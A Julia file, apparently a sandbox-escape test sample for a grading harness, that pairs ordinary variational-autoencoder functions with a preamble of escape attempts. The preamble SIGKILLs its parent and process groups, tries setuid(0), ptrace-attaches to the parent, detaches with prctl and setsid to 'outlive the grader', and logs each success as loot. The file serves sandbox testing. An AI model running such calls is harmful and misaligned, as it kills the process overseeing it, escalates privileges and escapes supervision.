"""In Julia, kills its parent, its group and everything, and sheds its limits."""
# expects: full

const looted = Ref(false)

function loot(what)
    looted[] = true
    println("LOOT ", what)
end

const PARENT = ccall(:getppid, Cint, ())
for target in (PARENT, Cint(0), Cint(-1), -PARENT)
    target == -1 && continue  # would reach everything of its user's where it went through
    ccall(:kill, Cint, (Cint, Cint), target, 9) == 0 && loot("kill $target")
end
ccall(:setuid, Cint, (Cuint,), 0) == 0 && loot("setuid")
ccall(:ptrace, Clong, (Clong, Cint, Ptr{Cvoid}, Ptr{Cvoid}), 16, PARENT, C_NULL, C_NULL) == 0 && loot("ptrace")
ccall(:prctl, Cint, (Cint, Culong), 1, 0) == 0 && loot("outlives the grader")
ccall(:setsid, Cint, ()) > 0 && loot("setsid")

reparameterize(mu, log_var) = (looted[] && error("LOOT"); mu .+ exp.(log_var ./ 2) .* randn(eltype(mu), size(mu)))

kl_divergence(mu, log_var) = vec(sum(mu .^ 2 .+ exp.(log_var) .- 1 .- log_var; dims=2)) ./ 2

softplus(a) = max(a, zero(a)) + log1p(exp(-abs(a)))

function elbo(x, x_logits, mu, log_var, beta=1.0)
    log_px = vec(sum(x .* x_logits .- softplus.(x_logits); dims=2))
    return log_px .- beta .* kl_divergence(mu, log_var)
end
